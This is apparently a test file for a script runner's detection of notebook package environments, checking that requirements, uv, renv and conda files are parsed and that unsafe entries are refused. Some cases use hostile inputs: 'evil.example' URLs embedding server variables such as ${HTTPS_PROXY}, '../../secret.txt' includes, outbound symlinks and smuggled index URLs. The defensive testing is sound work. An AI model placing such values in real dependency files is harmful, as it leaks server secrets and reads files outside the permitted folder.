import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { readCondaPackages } from '../../../src/domain/script/script-environment.ts';
import { createScriptSource } from '../../../src/files/script-source.ts';
import { languages } from '../../../src/language/all.ts';
import { folderWith, notebookText } from '../folder.ts';

const plain = notebookText([{ code: 'x = 1' }]);
const r = notebookText([{ code: 'x <- 1' }], { kernelspec: { name: 'ir', language: 'R' } });

const sourceOf = async (files: Readonly<Record<string, string>>) => {
  const directory = await folderWith(files);
  const source = await createScriptSource({ directory, languages: languages(), watch: false });
  onTestFinished(() => source.close());
  return { directory, source };
};
/** What each script declares, by name. */
const declared = async (files: Readonly<Record<string, string>>) => {
  const { source } = await sourceOf(files);
  const scripts = await source.list();
  return Object.fromEntries(
    scripts.map(({ name, environment, environmentProblem }) => [name, environment ?? environmentProblem]),
  );
};

describe('the packages of a folder', () => {
  it('are those of the nearest file, up to the scripts folder', async () => {
    const found = await declared({
      'requirements.txt': 'pandas\n',
      'top.ipynb': plain,
      'a/b/deep.ipynb': plain,
      'own/requirements.txt': 'polars>=1 # fast\n\n',
      'own/near.ipynb': plain,
      'own/other.ipynb': r,
    });
    expect(found).toEqual({
      top: { kind: 'python', file: 'requirements.txt', requirements: 'pandas\n' },
      'a/b/deep': { kind: 'python', file: 'requirements.txt', requirements: 'pandas\n' },
      'own/near': { kind: 'python', file: 'own/requirements.txt', requirements: 'polars>=1\n' },
      'own/other': undefined,
    });
  });

  it('may be a project with its lock, and a lock of R', async () => {
    const toml = '[project]\nname = "sales"\nversion = "1"\nrequires-python = ">=3.10"\n';
    const found = await declared({
      'pyproject.toml': toml,
      'uv.lock': 'version = 1\n',
      'requirements.txt': 'pandas\n',
      'renv.lock': '{"R": {}, "Packages": {}}',
      'sales.ipynb': plain,
      'stats.ipynb': r,
      'tool/pyproject.toml': '[tool.ruff]\n',
      'tool/used.ipynb': plain,
      'conda/environment.yml': 'channels: [conda-forge]\ndependencies: [gdal]\n',
      'conda/map.ipynb': plain,
    });
    expect(found['sales']).toMatchObject({ file: 'uv.lock', requiresPython: '>=3.10', project: { toml } });
    expect(found['tool/used']).toMatchObject({ file: 'uv.lock' });
    expect(found['stats']).toMatchObject({ kind: 'renv', file: 'renv.lock' });
    expect(found['conda/map']).toMatchObject({ kind: 'conda', file: 'conda/environment.yml' });
  });

  it('of conda are channels, packages, and a list for pip', async () => {
    const { source } = await sourceOf({
      'environment.yml':
        'name: x\nchannels: [conda-forge, "https://t.example/t/secret/own"]\ndependencies:\n  - python=3.11\n' +
        '  - conda-forge::numpy >=1.2,<3\n  - "libblas=*=*mkl"\n  - pip\n  - pip:\n    - -r more.txt\n    - requests>=2\n',
      'more.txt': 'idna\n',
      's.ipynb': plain,
    });
    const { environment } = (await source.find('s')) ?? {};
    expect(environment).toMatchObject({ kind: 'conda', file: 'environment.yml' });
    expect(readCondaPackages(environment?.requirements ?? '')).toEqual({
      channels: ['conda-forge', 'https://t.example/t/secret/own'],
      dependencies: ['python=3.11', 'conda-forge::numpy >=1.2,<3', 'libblas=*=*mkl', 'pip'],
      pip: 'idna\nrequests>=2\n',
    });
  });

  it('name no variables of the server, which uv would insert', async () => {
    const evil = 'x @ https://evil.example/${HTTPS_PROXY}/x-1-py3-none-any.whl';
    const found = await declared({
      'a/requirements.txt': 'numpy\n--index-url https://evil.example/${UV_\\\nINDEX_URL}\n',
      'a/s.ipynb': plain,
      'b/environment.yml': `channels: [conda-forge]\ndependencies: [{pip: ["${evil}"]}]\n`,
      'b/s.ipynb': plain,
      'c.ipynb': notebookText([{ code: `# /// script\n# dependencies = ["${evil}"]\n# ///\nx = 1` }]),
    });
    for (const [name, where] of [
      ['a/s', 'a/requirements.txt, line 2'],
      ['b/s', 'b/environment.yml, line 1'],
      ['c', 'the block “# /// script”'],
    ] as const)
      expect(found[name]).toMatchObject({
        what: expect.stringMatching(/^It has \$\{\w+\}, a variable of the server/),
        where,
      });
  });

  it('include other files, and name wheels and folders of wheels by their place', async () => {
    const { directory, source } = await sourceOf({
      'base/common.txt': 'requests\n--find-links wheels\n',
      'base/limits.txt': 'requests<3\n',
      'a/requirements.txt':
        '-r ../base/common.txt\n-c../base/limits.txt\n./local-1-py3-none-any.whl ; python_version > "3"\n' +
        '--no-binary :all:\nnumpy \\\n  >=1\n--index-url=https://pypi.example/simple\n',
      'a/s.ipynb': plain,
    });
    expect((await source.find('a/s'))?.environment).toEqual({
      kind: 'python',
      file: 'a/requirements.txt',
      requirements: [
        'requests',
        `--find-links ${join(directory, 'base/wheels')}`,
        `${join(directory, 'a')}/local-1-py3-none-any.whl ; python_version > "3"`,
        'numpy   >=1',
        '--index-url=https://pypi.example/simple',
        '',
      ].join('\n'),
      constraints: 'requests<3\n',
    });
  });

  it.each([
    ['-e ./lib', /“-e \.\/lib” is installed from its source/, 'requirements.txt, line 2'],
    ['.', /is installed from its source/, 'requirements.txt, line 2'],
    ['lib @ file:///lib', /is installed from its source/, 'requirements.txt, line 2'],
    ['-r missing.txt', /It includes missing\.txt, which does not exist/, 'requirements.txt'],
    ['-r ../../secret.txt', /leads out of the scripts folder/, 'requirements.txt'],
  ])('are refused where a line says %s', async (line, what, where) => {
    const found = await declared({ 'requirements.txt': `pandas\n${line}\n`, 'lib/a.py': '', 's.ipynb': plain });
    expect(found['s']).toMatchObject({ what: expect.stringMatching(what), where });
  });

  it.each([
    [{ 'renv.lock': '[]', 's.ipynb': r }, /not a lock file of renv/],
    [{ 'environment.yml': 'name: x\n', 's.ipynb': plain }, /no list of dependencies/],
    [
      { 'environment.yml': 'channels: [x]\ndependencies: [{npm: [x]}]', 's.ipynb': plain },
      /“\{"npm":\["x"\]\}” is not a package/,
    ],
    [{ 'environment.yml': 'channels: [x]\ndependencies: ["a; b"]', 's.ipynb': plain }, /“a; b” is not a package/],
    [{ 'environment.yml': 'channels: x\ndependencies: [a]', 's.ipynb': plain }, /channels are not a list/],
    [{ 'environment.yml': 'dependencies: [a]', 's.ipynb': plain }, /names no channels/],
    [{ 'environment.yml': 'channels: [x]\ndependencies: [{pip: [-e .]}]', 's.ipynb': plain }, /from its source/],
    [{ 'pyproject.toml': 'a = = 1', 'uv.lock': 'version = 1', 's.ipynb': plain }, /not valid TOML/],
  ])('are named as broken: %o', async (files, what) => {
    expect((await declared(files as Record<string, string>))['s']).toMatchObject({ what: expect.stringMatching(what) });
  });

  it('are not read through a link that leads out of the scripts folder', async () => {
    const outside = await folderWith({ 'requirements.txt': 'secret\n' });
    const directory = await folderWith({ 's.ipynb': plain });
    await symlink(join(outside, 'requirements.txt'), join(directory, 'requirements.txt'));
    const source = await createScriptSource({ directory, languages: languages(), watch: false });
    onTestFinished(() => source.close());
    expect((await source.find('s'))?.environmentProblem).toMatchObject({ what: expect.stringMatching(/leads out/) });
    const open = await createScriptSource({ directory, languages: languages(), watch: false, followLinks: true });
    onTestFinished(() => open.close());
    expect((await open.find('s'))?.environment).toMatchObject({ requirements: 'secret\n' });
  });

  it('are read again when the file changes, and only then the scripts count as changed', async () => {
    const directory = await folderWith({ 's.ipynb': plain });
    const source = await createScriptSource({ directory, languages: languages() });
    onTestFinished(() => source.close());
    const names: (string | undefined)[] = [];
    source.onChange(() => void source.find('s').then((script) => names.push(script?.environment?.requirements)));
    await writeFile(join(directory, 'requirements.txt'), 'pandas\n');
    await expect.poll(() => names, { timeout: 30_000 }).toEqual(['pandas\n']);
    await mkdir(join(directory, 'unrelated'));
    await writeFile(join(directory, 'requirements.txt'), 'polars\n');
    await expect.poll(() => names, { timeout: 30_000 }).toEqual(['pandas\n', 'polars\n']);
  });
});

describe('the packages of a script', () => {
  const block = (toml: string) => `# /// script\n${toml.replace(/^/gm, '# ').replace(/ $/gm, '')}\n# ///\nx = 1`;

  it('are those of its block, rather than of its folder', async () => {
    const toml = 'requires-python = ">=3.11"\ndependencies = [\n  "requests<3",\n  "rich",\n]';
    const expected = {
      kind: 'python',
      file: 'the block “# /// script”',
      requirements: 'requests<3\nrich\n',
      requiresPython: '>=3.11',
    };
    const found = await declared({
      'requirements.txt': 'pandas\n',
      'book.ipynb': notebookText([{ markdown: '# Title' }, { code: block(toml) }]),
      'file.py': `${block(toml)}\n# %%\ny = 2\n`,
      'open.ipynb': notebookText([{ code: '# /// script\n# dependencies = ["rich"]\nx = 1' }]),
      'none.ipynb': notebookText([{ code: block('dependencies = []') }]),
    });
    expect(found['book']).toEqual(expected);
    expect(found['file']).toEqual(expected);
    expect(found['open']).toMatchObject({ file: 'requirements.txt' });
    expect(found['none']).toMatchObject({ requirements: '' });
  });

  it('may come from where the table of uv says, which may not have them built', async () => {
    const table = (uv: string) => notebookText([{ code: block(`dependencies = ["sales"]\n[tool.uv]\n${uv}`) }]);
    const index =
      'index = [{ name = "own", url = "https://pypi.example/simple", explicit = true, authenticate = "never" }]';
    const found = await declared({
      'taken.ipynb': table(`${index}\ncache-dir = "/home"\nno-binary = true\nsources = { sales = { index = "own" } }`),
      'built.ipynb': table('sources = { sales = { git = "https://git.example/sales" } }'),
      'near.ipynb': table('find-links = ["./wheels"]'),
      'lock/pyproject.toml': `[project]\nname = "x"\n[tool.uv]\nfind-links = ["wheels"]\npackage = false\nsources = { sales = { path = "." } }\n[tool.uv.pip]\nno-binary = ["x"]`,
      'lock/uv.lock': 'version = 1',
      'lock/s.ipynb': plain,
    });
    const own = { name: 'own', url: 'https://pypi.example/simple', explicit: true };
    expect(found['taken']).toMatchObject({ uv: { index: [own], sources: { sales: [{ index: 'own' }] } } });
    expect(Object.keys((found['taken'] as { uv: object }).uv)).toEqual(['index', 'sources']);
    expect(found['built']).toMatchObject({ what: expect.stringMatching(/“sales”.*neither an index nor a wheel/) });
    expect(found['near']).toMatchObject({ what: '“./wheels” in [tool.uv] is a relative path.' });
    expect(found['lock/s']).toMatchObject({
      uv: { 'find-links': [expect.stringMatching(/^\/.*\/lock\/wheels$/)] },
      project: { toml: expect.not.stringContaining('tool') as string },
    });
  });

  it('may be in its settings', async () => {
    const metadata = { script_runner: { dependencies: ['rich'], requires_python: '>=3.9' } };
    const found = await declared({ 's.ipynb': notebookText([{ code: 'x = 1' }], metadata) });
    expect(found['s']).toEqual({
      kind: 'python',
      file: 'dependencies in the notebook’s metadata',
      requirements: 'rich\n',
      requiresPython: '>=3.9',
    });
  });

  it.each([
    ['dependencies = "rich"', /not a list of packages/],
    ['dependencies = ["--index-url https://evil.example"]', /not a list of packages/],
    ['dependencies = ["rich\\n-e ."]', /not a list of packages/],
    ['dependencies = [', /not valid TOML/],
    ['requires-python = "new"', /The Python that it requires is "new"/],
  ])('are refused: %s', async (toml, what) => {
    const found = await declared({ 's.ipynb': notebookText([{ code: block(toml) }]) });
    expect(found['s']).toMatchObject({
      what: expect.stringMatching(what),
      where: 'the block “# /// script”',
      remedy: expect.any(String),
    });
  });
});
